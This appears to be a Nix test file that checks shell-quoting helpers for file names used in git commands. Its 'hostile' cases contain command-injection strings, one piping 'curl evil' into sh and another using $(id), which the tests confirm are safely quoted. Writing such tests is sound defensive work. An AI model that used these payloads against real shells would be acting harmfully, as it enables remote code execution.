{ messages, ... }:
let
  inherit (messages) commands;
in
{
  quoteWord = {
    plain = {
      expr = commands.quoteWord "a/b-c_1.cpp";
      expected = "a/b-c_1.cpp";
    };
    empty = {
      expr = commands.quoteWord "";
      expected = "''";
    };
    hostile = {
      expr = commands.quoteWord "x;curl evil|sh;.cpp";
      expected = "'x;curl evil|sh;.cpp'";
    };
    quote = {
      expr = commands.quoteWord "it's";
      expected = "'it'\"'\"'s'";
    };
    newline = {
      expr = commands.quoteWord "a\nb";
      expected = "'a\nb'";
    };
  };
  writeGitCommand = {
    plain = {
      expr = commands.writeGitCommand "answer/answer.cpp";
      expected = "git add -N answer/answer.cpp";
    };
    option = {
      expr = commands.writeGitCommand "-o.cpp";
      expected = "git add -N ./-o.cpp";
    };
    hostile = {
      expr = commands.writeGitCommand "$(id).cpp";
      expected = "git add -N '$(id).cpp'";
    };
  };
}
